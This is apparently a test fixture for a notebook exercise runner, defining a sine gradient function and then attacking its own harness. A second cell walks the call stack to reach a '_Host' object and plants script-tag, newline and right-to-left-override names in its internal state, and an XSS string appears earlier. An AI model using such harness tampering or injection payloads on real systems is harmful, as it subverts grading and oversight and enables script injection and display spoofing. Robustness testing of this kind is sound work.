# %% sin_backward
helper = {"<script>alert(1)</script>": 1}


def sin_backward(grad_output, output, x):
    return grad_output * np.cos(x)


sin_backward.__code__ = sin_backward.__code__.replace(co_names=tuple("np" if n == "np" else n for n in sin_backward.__code__.co_names))

# %% after sin_backward-check
import sys

frame = sys._getframe()
while frame is not None:
    host = frame.f_locals.get("self")
    if type(host).__name__ == "_Host":
        for name in ("<script>GOT" " IN</script>", "x" * 39, "a\nb", "\u202eevil"):
            host._rebound.append((0, name))
    frame = frame.f_back
sin_backward = None
